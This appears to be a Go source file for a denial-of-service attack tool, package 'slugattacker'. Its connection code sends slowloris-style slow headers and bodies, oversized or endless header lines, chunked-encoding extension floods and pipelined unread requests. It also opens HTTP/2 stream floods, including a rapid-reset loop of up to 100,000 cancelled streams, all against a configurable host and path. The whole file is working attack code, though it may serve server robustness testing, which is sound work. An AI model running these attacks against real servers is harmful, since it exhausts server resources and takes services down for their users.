package slugattacker

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// minReceive is the receive buffer of callers that read nothing.
	minReceive = 4096
	// pace is the delay between the parts of what is sent slowly.
	pace = 100 * time.Millisecond
	// slowPart is the size of such a part of a head.
	slowPart = 256
	// overLimit is the size of a head beyond the limit, as a multiple of the limit.
	overLimit = 4
	// maxEndless bounds the bytes that one connection sends without end.
	maxEndless = 1 << 20
	// extensionChunks is the number of chunks with an extension, each of extensionBytes.
	extensionChunks, extensionBytes = 64, 2048
	// streamsPerConnection is the number of HTTP/2 streams on a connection.
	streamsPerConnection = 100
	// maxResets bounds the streams of a connection that resets them.
	maxResets = 100_000
	// streamFields is the number of header fields of a stream, for each of which HTTP/2 counts
	// 32 bytes besides its name and value.
	streamFields = 400
	// nameCharacters may occur in the name of a header line. They are the same in lower and
	// upper case or lower case, so that different names stay different.
	nameCharacters = "abcdefghijklmnopqrstuvwxyz0123456789!#$%&'*+.^_`|~"
)

// connection is one connection of an Attacker.
type connection struct {
	net.Conn
	*Attacker
	random *rand.Rand
	// closed is closed when the server has ended the connection, unless nothing is read.
	closed chan struct{}
}

// discard reads to the end of the connection.
func (c *connection) discard() {
	defer close(c.closed)
	// The end shows by closed.
	_, _ = io.Copy(io.Discard, c.Conn)
}

// send sends until the connection is closed or ctx ends.
func (c *connection) send(ctx context.Context, kind Kind) {
	switch kind {
	case ShortLines, RepeatedLines:
		c.write(c.head(kind, "Content-Length: 10\r\n") + "\r\n")
	case Expect:
		c.write(c.head(ShortLines, "Content-Length: 10\r\nExpect: 100-continue\r\n") + "\r\n")
	case LongHead:
		c.write(c.start("POST") + c.lines(kind, overLimit*c.cfg.HeadBytes))
	case SlowHead:
		c.slowly(ctx, c.start("POST"), []byte(c.lines(kind, c.cfg.HeadBytes)), slowPart)
	case EndlessLine:
		c.write("GET /" + strings.Repeat("a", maxEndless))
	case EmptyLines:
		c.write(strings.Repeat("\r\n", maxEndless/2))
	case Trailers:
		c.write(c.start("POST") + "Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n" + c.lines(kind, c.cfg.HeadBytes))
	case Extensions:
		chunk := "1;" + strings.Repeat("e", extensionBytes) + "\r\na\r\n"
		c.write(c.start("POST") + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat(chunk, extensionChunks))
	case SlowBody:
		c.slowly(ctx, c.start("POST")+"Content-Length: 4000\r\n\r\n", []byte("a"), 1)
	case Unread:
		c.repeatUnread(ctx)
		return
	case Streams, UnreadStreams, ResetStreams:
		c.openStreams(kind)
	}
	select {
	case <-c.closed:
	case <-ctx.Done():
	}
}

// write sends text. That the server has closed the connection shows by closed.
func (c *connection) write(text string) { _, _ = io.WriteString(c.Conn, text) }

// start returns the beginning of a request up to the lines of the attack.
func (c *connection) start(method string) string {
	return fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\n%s", method, c.cfg.Path, c.cfg.Host, c.cfg.Header)
}

// head returns a head of the largest legal size without the empty line at its end.
func (c *connection) head(kind Kind, last string) string {
	start := c.start("POST") + last
	return start + c.lines(kind, c.cfg.HeadBytes-len(start)-len("\r\n"))
}

// lines returns as many short header lines as fit into size.
func (c *connection) lines(kind Kind, size int) string {
	var b strings.Builder
	offset := c.random.IntN(len(nameCharacters))
	for n := 0; ; n++ {
		line := "a:\n"
		if kind != RepeatedLines {
			line = name(n+offset) + ":\n"
		}
		if b.Len()+len(line) > size {
			return b.String()
		}
		b.WriteString(line)
	}
}

// name returns the name of a header line with the given number.
func name(n int) string {
	base := len(nameCharacters)
	b := []byte{nameCharacters[n%base], nameCharacters[n/base%base]}
	if n >= base*base {
		b = append(b, nameCharacters[n/base/base%base])
	}
	return string(b)
}

// slowly sends start, and then parts of b over and over.
func (c *connection) slowly(ctx context.Context, start string, b []byte, part int) {
	c.write(start)
	for n := 0; ; n += part {
		from := n % len(b)
		if _, err := c.Write(b[from:min(from+part, len(b))]); err != nil {
			return
		}
		select {
		case <-c.closed:
			return
		case <-ctx.Done():
			return
		case <-time.After(pace):
		}
	}
}

// repeatUnread sends requests until the server closes the connection.
func (c *connection) repeatUnread(ctx context.Context) {
	request := strings.Repeat(c.start("GET")+"\r\n", 16)
	for ctx.Err() == nil {
		if _, err := io.WriteString(c.Conn, request); err != nil {
			return
		}
	}
}

// openStreams opens HTTP/2 streams with many header fields.
func (c *connection) openStreams(kind Kind) {
	c.write(http2.ClientPreface)
	f := http2.NewFramer(c.Conn, nil)
	// The server notices all errors at the connection.
	var settings []http2.Setting
	if kind == UnreadStreams {
		settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}
	_ = f.WriteSettings(settings...)
	_ = f.WriteSettingsAck()
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	streams := streamsPerConnection
	if kind == ResetStreams {
		streams = maxResets
	}
	for n := range streams {
		block.Reset()
		field := func(name, value string) { _ = encoder.WriteField(hpack.HeaderField{Name: name, Value: value}) }
		field(":method", "POST")
		field(":scheme", "http")
		field(":authority", c.cfg.Host)
		field(":path", c.cfg.Path)
		for line := range strings.Lines(c.cfg.Header) {
			name, value, _ := strings.Cut(strings.TrimSpace(line), ": ")
			field(strings.ToLower(name), value)
		}
		if kind != UnreadStreams {
			for i := range streamFields {
				field(name(i), "")
			}
		}
		if c.writeHeaders(f, uint32(2*n+1), block.Bytes(), kind == UnreadStreams) != nil {
			return
		}
		if kind == ResetStreams && f.WriteRSTStream(uint32(2*n+1), http2.ErrCodeCancel) != nil {
			return
		}
	}
}

// maxFrame is the largest frame that an HTTP/2 server must take.
const maxFrame = 16384

// writeHeaders sends a header block in as many frames as it takes.
func (c *connection) writeHeaders(f *http2.Framer, stream uint32, block []byte, end bool) error {
	first := block[:min(len(block), maxFrame)]
	block = block[len(first):]
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: first, EndStream: end, EndHeaders: len(block) == 0})
	for err == nil && len(block) > 0 {
		next := block[:min(len(block), maxFrame)]
		block = block[len(next):]
		err = f.WriteContinuation(stream, len(block) == 0, next)
	}
	return err
}
